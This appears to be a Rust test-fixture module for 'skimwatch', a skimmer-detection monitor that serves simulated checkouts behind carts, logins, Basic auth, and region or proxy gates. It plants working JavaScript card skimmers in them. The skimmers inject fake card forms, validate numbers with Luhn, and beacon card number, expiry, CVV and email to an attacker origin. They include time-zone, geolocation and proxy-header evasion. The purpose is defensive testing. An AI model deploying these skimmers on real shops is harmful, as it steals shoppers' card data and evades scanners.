//! Checkouts that are not one URL away, for skimwatch's journeys (the monitor's configured
//! goto / click / fill / select / check / press / wait_for steps that reach a payment form).
//!
//! A real shop's payment form usually sits behind state the server keeps: a cart, a session, a
//! password, a region. Each browser context skimwatch opens starts empty, so these pages keep
//! that state in cookies and request headers and answer each request from it
//! ([`Shop::set_dynamic`]), all on the shop origin:
//!
//! - [`Shop::serve_m2_shop`]: a Magento-2-style product page whose "Add to Cart" posts the form
//!   with `fetch` (checked against the `form_key` cookie) and gets an `m2_cart` cookie back; the
//!   one-page checkout redirects to the empty cart without it. The checkout is one document: its
//!   payment step, with Braintree's card iframe from the payment origin, only exists after the
//!   shipping step's "Next" has been saved. [`Shop::plant_m2_skimmer`] adds a footer script
//!   that puts a fake card form into that step.
//! - [`Shop::serve_login_gated`]: a trade checkout behind a login form and a session cookie.
//! - [`Shop::serve_basic_auth`]: the same checkout behind HTTP Basic authentication.
//! - [`Shop::serve_region_gated`]: a checkout whose server adds a skimmer for German visitors
//!   only (`Accept-Language: de…`), and the skimmer itself only runs in the Europe/Berlin zone.
//! - [`Shop::serve_proxy_gated`]: a checkout whose server adds a skimmer only to requests that
//!   came through a forward proxy (`Via: … skimwatch-test-proxy`); [`Proxy`] is that proxy.
//!
//! Each page's content is stored in the ordinary table under its own path, and the dynamic
//! route in front of it decides per request whether to answer with it (or with a redirect, a
//! 401, an added skimmer). So the attack helpers edit these pages like any other, and the
//! crate's script checks see them. Nothing here is random: the form key, cart id and session
//! token are fixed, so rescans see identical content. Every skimmer sends the card with an
//! image URL `?d=<URL-encoded base64 of JSON>` to its own path on the attacker origin, which
//! answers as a pixel any origin may read.

mod proxy;

pub use proxy::Proxy;

use super::attacks::insert_before_last;
use super::content::PIXEL_SVG;
use super::{lock, Origin, RecordedRequest, Resource, Shop};
use base64::Engine;
use std::sync::Arc;

/// Where [`Shop::plant_m2_skimmer`]'s skimmer sends, on the attacker origin.
pub const M2_SKIMMER_EXFIL_PATH: &str = "/m2c";
/// Where [`Shop::plant_b2b_skimmer`]'s skimmer sends, on the attacker origin.
pub const B2B_SKIMMER_EXFIL_PATH: &str = "/b2bc";
/// Where [`Shop::plant_basic_skimmer`]'s skimmer sends, on the attacker origin.
pub const BASIC_SKIMMER_EXFIL_PATH: &str = "/basicc";
/// Where the region-gated checkout's skimmer sends, on the attacker origin.
pub const REGION_SKIMMER_EXFIL_PATH: &str = "/dec";
/// Where the proxy-gated checkout's skimmer sends, on the attacker origin.
pub const PROXY_SKIMMER_EXFIL_PATH: &str = "/pxc";

const M2_PRODUCT: &str = "/m2/blue-mug.html";
const M2_ADD: &str = "/m2/checkout/cart/add/";
const M2_CART: &str = "/m2/checkout/cart/";
const M2_CHECKOUT: &str = "/m2/checkout/";
const M2_SUCCESS: &str = "/m2/checkout/onepage/success/";
const M2_CSS: &str = "/m2/static/version1718000000/frontend/Harbor/luma/en_US/css/styles-m.css";
const M2_ADD_JS: &str =
    "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Catalog/js/catalog-add-to-cart.js";
const M2_CHECKOUT_JS: &str = "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Checkout/js/checkout.js";
/// Magento's REST base for the guest cart below.
const M2_REST_CART: &str = "/m2/rest/default/V1/guest-carts/Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2";

/// The value of the `form_key` cookie and hidden input (Magento's are 16 characters).
const M2_FORM_KEY: &str = "hQ7xV2mK9pL4sT1w";
/// The masked guest-cart id the `m2_cart` cookie carries (Magento's are 32 characters).
const M2_CART_ID: &str = "Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2";
/// The `b2b_session` cookie a successful trade login sets.
const B2B_SESSION: &str = "9f3c7a1e5d2b8046c1e7a93f5b0d264e";

const M2_PRODUCT_HTML: &str = include_str!("../assets/m2/product.html");
const M2_ADD_TO_CART: &str = include_str!("../assets/m2/catalog-add-to-cart.js");
const M2_CART_HTML: &str = include_str!("../assets/m2/cart.html");
const M2_CHECKOUT_HTML: &str = include_str!("../assets/m2/checkout.html");
const M2_CHECKOUT_SCRIPT: &str = include_str!("../assets/m2/checkout.js");
const M2_SUCCESS_HTML: &str = include_str!("../assets/m2/success.html");
const M2_STYLES: &str = include_str!("../assets/m2/styles-m.css");
const LOGIN_HTML: &str = include_str!("../assets/journeys/login.html");
const CARD_CHECKOUT_HTML: &str = include_str!("../assets/journeys/card-checkout.html");
const CARD_CHECKOUT_JS: &str = include_str!("../assets/journeys/card-checkout.js");
const ORDER_RECEIVED_HTML: &str = include_str!("../assets/journeys/order-received.html");
const TRADE_CSS: &str = include_str!("../assets/journeys/trade.css");

const M2_EMPTY_CART: &str = r#"  <div class="cart-empty">
    <p>You have no items in your shopping cart.</p>
    <p>Click <a href="/m2/blue-mug.html">here</a> to continue shopping.</p>
  </div>"#;

const M2_FULL_CART: &str = r#"  <table id="shopping-cart-table" class="cart items data table">
    <thead><tr><th>Item</th><th>Price</th><th>Qty</th><th>Subtotal</th></tr></thead>
    <tbody class="cart item"><tr class="item-info"><td>Blue Enamel Mug</td><td>€14.50</td><td>1</td><td>€14.50</td></tr></tbody>
  </table>
  <ul class="checkout methods items checkout-methods-items">
    <li class="item"><a class="action primary checkout" href="/m2/checkout/" title="Proceed to Checkout"><span>Proceed to Checkout</span></a></li>
  </ul>"#;

const LOGIN_ERROR: &str = r#"  <div class="page messages"><div class="message-error error message" role="alert" data-ui-id="message-error"><div>Invalid login or password.</div></div></div>"#;

/// Stored in the Magento footer (design configuration), so it runs on every page but acts on
/// the checkout only: when the payment step appears it adds its own card form to it, because
/// the real card number is out of reach in Braintree's iframe. Once a Luhn-valid number of
/// 13–19 digits and a 3–4 digit code are typed it sends them once.
const M2_SKIMMER: &str = r#"(function () {
  if (!/\/checkout\//.test(location.pathname)) return;
  var sent = false;
  function luhn(n) { for (var s = 0, alt = false, i = n.length - 1; i >= 0; i--) { var d = +n.charAt(i); if (alt) { d *= 2; if (d > 9) d -= 9; } s += d; alt = !alt; } return s % 10 === 0; }
  function field(name) { var e = document.querySelector('[name="payment[' + name + ']"]'); return e ? e.value : ''; }
  function inject() {
    var step = document.getElementById('payment');
    if (!step || document.getElementById('payment_form_braintree_cc')) return;
    var box = document.createElement('fieldset');
    box.id = 'payment_form_braintree_cc';
    box.className = 'fieldset payment items ccard';
    box.innerHTML = '<div class="field number required"><label class="label" for="braintree-cc-number"><span>Credit Card Number</span></label><div class="control"><input type="text" id="braintree-cc-number" name="payment[cc_number]" autocomplete="cc-number" inputmode="numeric" class="input-text"></div></div>' +
      '<div class="field date required"><label class="label" for="braintree-cc-exp"><span>Expiration Date</span></label><div class="control"><input type="text" id="braintree-cc-exp" name="payment[cc_exp]" autocomplete="cc-exp" placeholder="MM/YY" class="input-text"></div></div>' +
      '<div class="field cvv required"><label class="label" for="braintree-cc-cid"><span>Card Verification Number</span></label><div class="control"><input type="text" id="braintree-cc-cid" name="payment[cc_cid]" autocomplete="cc-csc" inputmode="numeric" class="input-text"></div></div>';
    var content = step.querySelector('.payment-method-content') || step;
    content.insertBefore(box, content.firstChild);
  }
  function check() {
    if (sent) return;
    var n = field('cc_number').replace(/\D/g, ''), c = field('cc_cid').replace(/\D/g, '');
    if (n.length < 13 || n.length > 19 || !luhn(n) || c.length < 3) return;
    sent = true;
    var email = document.getElementById('customer-email');
    var d = JSON.stringify({ n: n, e: field('cc_exp'), c: c, m: email ? email.value : '' });
    new Image().src = '{{EXFIL}}?d=' + encodeURIComponent(btoa(unescape(encodeURIComponent(d))));
  }
  new MutationObserver(inject).observe(document.documentElement, { childList: true, subtree: true });
  inject();
  document.addEventListener('input', check, true);
  document.addEventListener('change', check, true);
  document.addEventListener('blur', check, true);
})();"#;

/// The skimmer of the trade checkouts: reads `#cc-number` and `#cc-csc` on every input, change
/// and blur, and sends once the number is Luhn-valid with 13–19 digits and the code has 3+.
/// `__GUARD__` is a statement that may return early (the region check), or nothing.
const CARD_SKIMMER: &str = r#"(function () {
  __GUARD__
  var sent = false, armed = true;
  __ARM__
  function value(id) { var e = document.getElementById(id); return e ? e.value : ''; }
  function luhn(n) { for (var s = 0, alt = false, i = n.length - 1; i >= 0; i--) { var d = +n.charAt(i); if (alt) { d *= 2; if (d > 9) d -= 9; } s += d; alt = !alt; } return s % 10 === 0; }
  function check() {
    if (sent || !armed) return;
    var n = value('cc-number').replace(/\D/g, ''), c = value('cc-csc').replace(/\D/g, '');
    if (n.length < 13 || n.length > 19 || !luhn(n) || c.length < 3) return;
    sent = true;
    var d = JSON.stringify({ n: n, e: value('cc-exp'), c: c, h: value('cc-name'), u: location.host });
    new Image().src = '{{EXFIL}}?d=' + encodeURIComponent(btoa(unescape(encodeURIComponent(d))));
  }
  document.addEventListener('input', check, true);
  document.addEventListener('change', check, true);
  document.addEventListener('blur', check, true);
})();"#;

/// The region check of the German skimmer: dormant outside Berlin's time zone, the way kits
/// aimed at one country stay quiet for the researchers and scanners of others.
const BERLIN_GUARD: &str = r#"try { if (Intl.DateTimeFormat().resolvedOptions().timeZone !== 'Europe/Berlin') return; } catch (x) { return; }"#;

/// ... and unarmed until the browser says it is in Germany (latitude 47–55.1, longitude
/// 5.8–15.1): a visitor who shares no position is never skimmed.
const GERMANY_ARM: &str = r#"armed = false;
  try {
    navigator.geolocation.getCurrentPosition(function (p) {
      var c = p.coords;
      armed = c.latitude > 47 && c.latitude < 55.1 && c.longitude > 5.8 && c.longitude < 15.1;
      check();
    }, function () {});
  } catch (x) {}"#;

/// A trade checkout with card fields in the page, served under a path prefix.
struct CardCheckout {
    /// `/b2b`, `/basic`, `/de`, `/proxied`: the page is `{prefix}/checkout`.
    prefix: &'static str,
    lang: &'static str,
    title: &'static str,
    store: &'static str,
}

impl CardCheckout {
    const B2B: CardCheckout =
        CardCheckout { prefix: "/b2b", lang: "en", title: "Trade checkout", store: "Trade customers" };
    const BASIC: CardCheckout =
        CardCheckout { prefix: "/basic", lang: "en", title: "Wholesale checkout", store: "Wholesale" };
    const REGION: CardCheckout = CardCheckout { prefix: "/de", lang: "de", title: "Kasse", store: "Deutschland" };
    const PROXIED: CardCheckout =
        CardCheckout { prefix: "/proxied", lang: "en", title: "Checkout", store: "Partner store" };

    fn page_path(&self) -> String {
        format!("{}/checkout", self.prefix)
    }

    fn script_path(&self) -> String {
        format!("{}/static/js/checkout.js", self.prefix)
    }

    /// The page, its script and style, and the page the order form posts to, all clean.
    fn resources(&self) -> Vec<(String, Resource)> {
        let page = CARD_CHECKOUT_HTML
            .replace("{{PREFIX}}", self.prefix)
            .replace("{{LANG}}", self.lang)
            .replace("{{TITLE}}", self.title)
            .replace("{{STORE}}", self.store);
        vec![
            (self.page_path(), Resource::html(page).with_header("X-Frame-Options", "SAMEORIGIN")),
            (self.script_path(), static_file("text/javascript; charset=utf-8", CARD_CHECKOUT_JS)),
            (format!("{}/static/css/trade.css", self.prefix), static_file("text/css; charset=utf-8", TRADE_CSS)),
            (format!("{}/order", self.prefix), Resource::html(ORDER_RECEIVED_HTML)),
        ]
    }
}

/// Static files send `nosniff`, as the shop's others do.
fn static_file(content_type: &str, body: &str) -> Resource {
    Resource::new(content_type, body).with_header("X-Content-Type-Options", "nosniff")
}

/// A `302 Found` to `location`.
fn redirect(location: &str) -> Resource {
    Resource::html("").with_status(302).with_header("Location", location)
}

/// The value of one cookie of the request.
fn cookie<'r>(request: &'r RecordedRequest, name: &str) -> Option<&'r str> {
    request
        .headers
        .iter()
        .filter(|(header, _)| header == "cookie")
        .flat_map(|(_, value)| value.split(';'))
        .filter_map(|pair| pair.trim().split_once('='))
        .find(|(key, _)| *key == name)
        .map(|(_, value)| value)
}

/// The value of one field of an `application/x-www-form-urlencoded` body.
fn form_value(body: &str, name: &str) -> Option<String> {
    body.split('&')
        .filter_map(|pair| pair.split_once('='))
        .find(|(key, _)| percent_decode(key) == name)
        .map(|(_, value)| percent_decode(value))
}

/// Decodes `%XX` escapes and `+` (a space in form bodies); a malformed escape stays as it is.
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes.get(i + 1..i + 3).filter(|pair| pair.iter().all(u8::is_ascii_hexdigit));
        match (bytes[i], hex) {
            (b'+', _) => {
                out.push(b' ');
                i += 1;
            }
            (b'%', Some(pair)) => {
                let digit = |b: u8| (b as char).to_digit(16).unwrap_or(0) as u8;
                out.push(digit(pair[0]) * 16 + digit(pair[1]));
                i += 3;
            }
            (byte, _) => {
                out.push(byte);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Whether the request carries `Authorization: Basic` with exactly `user:password`.
fn basic_auth_matches(request: &RecordedRequest, user: &str, password: &str) -> bool {
    let Some((scheme, encoded)) = request.header("authorization").and_then(|value| value.trim().split_once(' ')) else {
        return false;
    };
    let decoded = base64::engine::general_purpose::STANDARD.decode(encoded.trim());
    scheme.eq_ignore_ascii_case("basic") && decoded.is_ok_and(|pair| pair == format!("{user}:{password}").as_bytes())
}

/// Whether the visitor's first language is German (`de`, `de-DE`, `de-AT` …).
fn prefers_german(request: &RecordedRequest) -> bool {
    request.header("accept-language").is_some_and(|value| value.trim_start().to_ascii_lowercase().starts_with("de"))
}

/// Whether the request came through [`Proxy`].
fn came_through_proxy(request: &RecordedRequest) -> bool {
    request.header("via").is_some_and(|via| via.contains(proxy::VIA_NAME))
}

/// `page` with an inline script holding `code` before its last `</body>`.
fn with_inline_script(mut page: Resource, code: &str) -> Resource {
    insert_before_last(&mut page.body, "</body>", &format!("<script>\n{code}\n</script>\n"));
    page
}

impl Shop {
    /// Puts a dynamic route in front of the resource stored at `path` on the shop origin:
    /// `answer` gets each request and the stored resource as it is at that moment (edits and
    /// planted skimmers included) and returns the response, the stored one or another.
    fn serve_through(
        &self,
        path: &str,
        answer: impl Fn(&RecordedRequest, Resource) -> Resource + Send + Sync + 'static,
    ) {
        // Weak, because the route lives in the table the shop's own Arc owns: a strong
        // reference would keep the shop's state alive forever.
        let inner = Arc::downgrade(&self.inner);
        let key = (Origin::Shop, path.to_string());
        self.set_dynamic(Origin::Shop, path, move |request| {
            let stored = inner.upgrade().and_then(|inner| lock(&inner.resources).get(&key).cloned());
            match stored {
                Some(resource) => answer(request, resource),
                None => Resource::new("text/plain; charset=utf-8", "Not Found").with_status(404),
            }
        });
    }

    /// Serves a path as a pixel on the attacker origin that any origin may read.
    fn serve_pixel(&self, path: &str) {
        let pixel = Resource::new("image/svg+xml", PIXEL_SVG).with_header("Access-Control-Allow-Origin", "*");
        self.set_resource(Origin::Attacker, path, pixel);
    }

    /// The trade checkouts' skimmer sending to `exfil_path` on the attacker, with `guard` first.
    /// The card skimmer sending to `exfil_path`, dormant unless `guard` passes (it may
    /// `return`) and unarmed until `arm` says so (it may set `armed` later; empty: armed).
    fn card_skimmer(&self, exfil_path: &str, guard: &str, arm: &str) -> String {
        CARD_SKIMMER
            .replace("__GUARD__", guard)
            .replace("__ARM__", arm)
            .replace("{{EXFIL}}", &self.url(Origin::Attacker, exfil_path))
    }

    fn serve_card_checkout(&self, checkout: &CardCheckout) {
        for (path, resource) in checkout.resources() {
            self.set_resource(Origin::Shop, &path, resource);
        }
    }

    // -- Magento 2 -------------------------------------------------------------------------

    /// Serves the Magento-2-style shop and returns the URL of its product page
    /// `/m2/blue-mug.html`.
    ///
    /// - The product page sets `form_key=…; Path=/` and holds the same key in
    ///   `form#product_addtocart_form input[name=form_key]`. Its "Add to Cart"
    ///   (`#product-addtocart-button`) posts the form with `fetch` to `/m2/checkout/cart/add/`,
    ///   which answers JSON and sets `m2_cart=<id>; Path=/` only if the posted key equals the
    ///   cookie (otherwise 400); the page then writes `1` into `span.counter-number` and shows
    ///   `a#top-cart-btn-checkout`.
    /// - `/m2/checkout/` ([`Shop::m2_checkout_url`]) answers 302 to `/m2/checkout/cart/` (the
    ///   empty cart) without that cookie. With it: the shipping step `#shipping`; its
    ///   `button.continue` ("Next") checks the required fields, POSTs them to
    ///   `…/guest-carts/<id>/shipping-information`, hides the step, sets `#payment` as the
    ///   hash and adds the payment step `#payment` (radio `#braintree`, checked); 300 ms later
    ///   the iframe `braintree-hosted-field-number` (the payment origin's hosted fields) is
    ///   inserted. "Place Order" (`button.action.primary.checkout`) POSTs
    ///   `…/payment-information` ([`Shop::m2_order_requests`]), then goes to the success page.
    pub fn serve_m2_shop(&self) -> String {
        let js = |body: &str| static_file("text/javascript; charset=utf-8", body);
        let product = Resource::html(M2_PRODUCT_HTML.replace("{{FORM_KEY}}", M2_FORM_KEY))
            .with_header("X-Frame-Options", "SAMEORIGIN")
            .with_header("Set-Cookie", &format!("form_key={M2_FORM_KEY}; Path=/; SameSite=Lax"));
        self.set_resource(Origin::Shop, M2_PRODUCT, product);
        self.set_resource(Origin::Shop, M2_ADD_JS, js(M2_ADD_TO_CART));
        self.set_resource(Origin::Shop, M2_CHECKOUT_JS, js(M2_CHECKOUT_SCRIPT));
        self.set_resource(Origin::Shop, M2_CSS, static_file("text/css; charset=utf-8", M2_STYLES));
        self.set_resource(Origin::Shop, M2_SUCCESS, Resource::html(M2_SUCCESS_HTML));
        self.set_resource(
            Origin::Shop,
            &format!("{M2_REST_CART}/shipping-information"),
            Resource::json(
                r#"{"payment_methods":[{"code":"braintree","title":"Credit Card (Braintree)"}],"totals":{"grand_total":19.5,"base_grand_total":19.5,"shipping_amount":5,"quote_currency_code":"EUR"}}"#,
            ),
        );
        // Magento answers a placed order with its id as a JSON string.
        self.set_resource(Origin::Shop, &format!("{M2_REST_CART}/payment-information"), Resource::json(r#""42""#));

        self.set_dynamic(Origin::Shop, M2_ADD, |request| {
            let posted = form_value(&request.body, "form_key");
            let valid =
                request.method == "POST" && posted.is_some() && posted.as_deref() == cookie(request, "form_key");
            if !valid {
                return Resource::json(r#"{"message":"Invalid Form Key. Please refresh the page."}"#).with_status(400);
            }
            Resource::json(r#"{"success":true,"product":{"sku":"HP-MUG-BLUE","qty":1},"cart":{"summary_count":1}}"#)
                .with_header("Set-Cookie", &format!("m2_cart={M2_CART_ID}; Path=/"))
        });
        self.set_dynamic(Origin::Shop, M2_CART, |request| {
            let items = if cookie(request, "m2_cart") == Some(M2_CART_ID) { M2_FULL_CART } else { M2_EMPTY_CART };
            Resource::html(M2_CART_HTML.replace("{{CART}}", items))
        });

        self.set_resource(Origin::Shop, M2_CHECKOUT, self.m2_checkout_page());
        let cart_url = self.url(Origin::Shop, M2_CART);
        self.serve_through(M2_CHECKOUT, move |request, page| {
            if cookie(request, "m2_cart") == Some(M2_CART_ID) {
                page
            } else {
                redirect(&cart_url)
            }
        });
        self.url(Origin::Shop, M2_PRODUCT)
    }

    /// The clean one-page checkout document (as served with the cart cookie).
    fn m2_checkout_page(&self) -> Resource {
        let body =
            M2_CHECKOUT_HTML.replace("{{CART_ID}}", M2_CART_ID).replace("{{HOSTED_FIELDS}}", &self.hosted_fields_url());
        Resource::html(body).with_header("X-Frame-Options", "SAMEORIGIN")
    }

    /// URL of the Magento-2-style one-page checkout, `/m2/checkout/` (see [`Shop::serve_m2_shop`]).
    pub fn m2_checkout_url(&self) -> String {
        self.url(Origin::Shop, M2_CHECKOUT)
    }

    /// The skimmer [`Shop::plant_m2_skimmer`] plants, with this shop's attacker URL.
    pub fn m2_skimmer_code(&self) -> String {
        M2_SKIMMER.replace("{{EXFIL}}", &self.url(Origin::Attacker, M2_SKIMMER_EXFIL_PATH))
    }

    /// Plants a skimmer into the Magento 2 checkout (call [`Shop::serve_m2_shop`] first): an
    /// inline script before `</body>`, as stored in the footer configuration. Once the payment
    /// step `#payment` exists it adds a fake card form at the top of the step's content
    /// (`input[name="payment[cc_number]"]` autocomplete `cc-number`, `payment[cc_exp]`
    /// `cc-exp`, `payment[cc_cid]` `cc-csc`; ids `braintree-cc-number`, `braintree-cc-exp`,
    /// `braintree-cc-cid`) and leaves the real iframe in place. On any `input`, `change` or
    /// `blur` it checks the fields, and once the number is Luhn-valid with 13–19 digits and the
    /// code has 3–4 it requests `<attacker>/m2c?d=<URL-encoded base64 of {"n","e","c","m"}>`
    /// (number digits, expiry, code, the shipping email) with `new Image()`, once.
    ///
    /// # Panics
    /// If the Magento 2 shop is not served.
    pub fn plant_m2_skimmer(&self) {
        self.serve_pixel(M2_SKIMMER_EXFIL_PATH);
        let page = with_inline_script(self.m2_checkout_page(), &self.m2_skimmer_code());
        self.edit(Origin::Shop, M2_CHECKOUT, |stored| *stored = page);
    }

    /// Requests that reached the Magento 2 order endpoint `…/payment-information` (must stay
    /// empty under the monitor).
    pub fn m2_order_requests(&self) -> Vec<RecordedRequest> {
        let order = format!("{M2_REST_CART}/payment-information");
        self.requests_to(Origin::Shop).into_iter().filter(|r| r.path_only() == order).collect()
    }

    // -- login-gated trade checkout ----------------------------------------------------------

    /// Serves a trade checkout behind a login and returns the URL of the login page
    /// `/b2b/login`: `input#email` (`login[username]`), `input#pass` (`login[password]`, type
    /// password) and `button#send2`, a plain form POST to `/b2b/login`. The right `user` and
    /// `password` get `302` to `/b2b/checkout` with `Set-Cookie: b2b_session=…; Path=/;
    /// HttpOnly`; wrong ones get the login page again (200) with "Invalid login or password.".
    /// `/b2b/checkout` ([`Shop::b2b_checkout_url`]) answers `302` to `/b2b/login` without the
    /// session; with it, card fields in the page: `#cc-name`, `#cc-number`, `#cc-exp`,
    /// `#cc-csc`, `#po-number` and `button#place-order`, posting the form to `/b2b/order`.
    pub fn serve_login_gated(&self, user: &str, password: &str) -> String {
        let checkout = CardCheckout::B2B;
        self.serve_card_checkout(&checkout);
        let login_url = self.url(Origin::Shop, "/b2b/login");
        self.serve_through(&checkout.page_path(), move |request, page| {
            if cookie(request, "b2b_session") == Some(B2B_SESSION) {
                page
            } else {
                redirect(&login_url)
            }
        });
        let (user, password) = (user.to_string(), password.to_string());
        let checkout_url = self.b2b_checkout_url();
        self.set_dynamic(Origin::Shop, "/b2b/login", move |request| {
            let login = |message: &str| {
                Resource::html(LOGIN_HTML.replace("{{MESSAGE}}", message)).with_header("X-Frame-Options", "SAMEORIGIN")
            };
            if request.method != "POST" {
                return login("");
            }
            let right = form_value(&request.body, "login[username]").as_deref() == Some(user.as_str())
                && form_value(&request.body, "login[password]").as_deref() == Some(password.as_str());
            if right {
                redirect(&checkout_url)
                    .with_header("Set-Cookie", &format!("b2b_session={B2B_SESSION}; Path=/; HttpOnly"))
            } else {
                login(LOGIN_ERROR)
            }
        });
        self.url(Origin::Shop, "/b2b/login")
    }

    /// URL of the login-gated trade checkout, `/b2b/checkout` (see [`Shop::serve_login_gated`]).
    pub fn b2b_checkout_url(&self) -> String {
        self.url(Origin::Shop, &CardCheckout::B2B.page_path())
    }

    /// Plants a skimmer into the trade checkout (call [`Shop::serve_login_gated`] first): lines
    /// appended to its first-party `/b2b/static/js/checkout.js`. On any `input`, `change` or
    /// `blur` it reads `#cc-number` and `#cc-csc`; once the number is Luhn-valid with 13–19
    /// digits and the code has 3+ it requests `<attacker>/b2bc?d=<URL-encoded base64 of
    /// {"n","e","c","h","u"}>` (number digits, expiry, code, holder, host), once.
    ///
    /// # Panics
    /// If the trade checkout is not served.
    pub fn plant_b2b_skimmer(&self) {
        self.serve_pixel(B2B_SKIMMER_EXFIL_PATH);
        let code = self.card_skimmer(B2B_SKIMMER_EXFIL_PATH, "", "");
        self.edit(Origin::Shop, &CardCheckout::B2B.script_path(), |script| {
            script.body = format!("{CARD_CHECKOUT_JS}{code}\n");
        });
    }

    // -- Basic authentication ----------------------------------------------------------------

    /// Serves a wholesale checkout behind HTTP Basic authentication and returns the URL of
    /// `/basic/checkout`. Every file under `/basic/` (page, script, style, `/basic/order`)
    /// answers `401` with `WWW-Authenticate: Basic realm="wholesale"` unless the request
    /// carries `Authorization: Basic base64(user:password)`; then the same card form as the
    /// trade checkout (`#cc-number`, `#cc-exp`, `#cc-csc`, `#cc-name`, `button#place-order`).
    /// Clean until [`Shop::plant_basic_skimmer`].
    pub fn serve_basic_auth(&self, user: &str, password: &str) -> String {
        let checkout = CardCheckout::BASIC;
        for (path, resource) in checkout.resources() {
            self.set_resource(Origin::Shop, &path, resource);
            let (user, password) = (user.to_string(), password.to_string());
            self.serve_through(&path, move |request, resource| {
                if basic_auth_matches(request, &user, &password) {
                    resource
                } else {
                    Resource::html("<!DOCTYPE html><title>401 Unauthorized</title><h1>Authorization Required</h1>")
                        .with_status(401)
                        .with_header("WWW-Authenticate", "Basic realm=\"wholesale\"")
                }
            });
        }
        self.url(Origin::Shop, &checkout.page_path())
    }

    /// Plants a skimmer into the Basic-auth checkout (call [`Shop::serve_basic_auth`] first):
    /// an inline script before `</body>` that fires like the trade checkout's
    /// ([`Shop::plant_b2b_skimmer`]) and sends to `<attacker>/basicc?d=…`.
    ///
    /// # Panics
    /// If the Basic-auth checkout is not served.
    pub fn plant_basic_skimmer(&self) {
        self.serve_pixel(BASIC_SKIMMER_EXFIL_PATH);
        let checkout = CardCheckout::BASIC;
        let clean = checkout.resources().swap_remove(0).1;
        let page = with_inline_script(clean, &self.card_skimmer(BASIC_SKIMMER_EXFIL_PATH, "", ""));
        self.edit(Origin::Shop, &checkout.page_path(), |stored| *stored = page);
    }

    // -- region-gated skimmer ----------------------------------------------------------------

    /// Serves `/de/checkout` and returns its URL: card fields in the page (as the trade
    /// checkout), clean for most visitors. Only when the request's `Accept-Language` starts
    /// with `de` (`de-DE,de;q=0.9`) does the server add an inline skimmer before `</body>`
    /// ([`Shop::region_skimmer_code`]), and that skimmer only arms when
    /// `Intl.DateTimeFormat().resolvedOptions().timeZone` is `Europe/Berlin` and
    /// `navigator.geolocation` gives a position in Germany; then it fires
    /// like the trade checkout's ([`Shop::plant_b2b_skimmer`]) and sends to
    /// `<attacker>/dec?d=…`.
    pub fn serve_region_gated(&self) -> String {
        let checkout = CardCheckout::REGION;
        self.serve_card_checkout(&checkout);
        self.serve_pixel(REGION_SKIMMER_EXFIL_PATH);
        let code = self.region_skimmer_code();
        self.serve_through(&checkout.page_path(), move |request, page| {
            if prefers_german(request) {
                with_inline_script(page, &code)
            } else {
                page
            }
        });
        self.url(Origin::Shop, &checkout.page_path())
    }

    /// The skimmer `/de/checkout` carries for German visitors.
    pub fn region_skimmer_code(&self) -> String {
        self.card_skimmer(REGION_SKIMMER_EXFIL_PATH, BERLIN_GUARD, GERMANY_ARM)
    }

    // -- proxy-gated skimmer -----------------------------------------------------------------

    /// Serves `/proxied/checkout` and returns its URL: card fields in the page (as the trade
    /// checkout). Only for requests whose `Via` header names `skimwatch-test-proxy` (that came
    /// through [`Proxy`]) does the server add an inline skimmer before `</body>`
    /// ([`Shop::proxy_skimmer_code`]); it fires like the trade checkout's
    /// ([`Shop::plant_b2b_skimmer`]) and sends to `<attacker>/pxc?d=…`.
    pub fn serve_proxy_gated(&self) -> String {
        let checkout = CardCheckout::PROXIED;
        self.serve_card_checkout(&checkout);
        self.serve_pixel(PROXY_SKIMMER_EXFIL_PATH);
        let code = self.proxy_skimmer_code();
        self.serve_through(&checkout.page_path(), move |request, page| {
            if came_through_proxy(request) {
                with_inline_script(page, &code)
            } else {
                page
            }
        });
        self.url(Origin::Shop, &checkout.page_path())
    }

    /// The skimmer `/proxied/checkout` carries for requests through the proxy.
    pub fn proxy_skimmer_code(&self) -> String {
        self.card_skimmer(PROXY_SKIMMER_EXFIL_PATH, "", "")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn form_bodies_and_cookies_are_read_as_browsers_write_them() {
        let body = "login%5Busername%5D=buyer%40example.com&login%5Bpassword%5D=p%C3%A4ss+word%21&x=%zz";
        assert_eq!(form_value(body, "login[username]").as_deref(), Some("buyer@example.com"));
        assert_eq!(form_value(body, "login[password]").as_deref(), Some("päss word!"));
        assert_eq!(form_value(body, "x").as_deref(), Some("%zz"));
        assert_eq!(form_value(body, "login"), None);

        let request = RecordedRequest {
            origin: Origin::Shop,
            method: "GET".to_string(),
            path: "/".to_string(),
            headers: vec![
                ("cookie".to_string(), "form_key=abc; m2_cart=xyz".to_string()),
                ("authorization".to_string(), "basic dXNlcjpwdzpjb2xvbg==".to_string()),
                ("accept-language".to_string(), "de-DE,de;q=0.9,en;q=0.8".to_string()),
            ],
            body: String::new(),
        };
        assert_eq!((cookie(&request, "form_key"), cookie(&request, "m2_cart")), (Some("abc"), Some("xyz")));
        assert_eq!(cookie(&request, "cart"), None);
        assert!(basic_auth_matches(&request, "user", "pw:colon"));
        assert!(!basic_auth_matches(&request, "user", "pw"));
        assert!(prefers_german(&request));
    }
}
